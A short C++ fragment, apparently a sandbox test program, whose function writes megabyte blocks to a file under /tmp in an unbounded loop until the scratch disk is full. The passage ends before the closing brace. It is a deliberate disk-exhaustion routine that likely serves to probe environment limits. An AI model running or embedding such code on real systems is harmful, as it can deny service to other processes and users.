// Writes until the scratch is full.
#include<assert.h>
#include<bits/stdc++.h>
long f(long x) {
    std::ofstream file("/tmp/full" + std::to_string(x));
    while (file << std::string(1 << 20, 'x')) {
    }
    return x + 1;
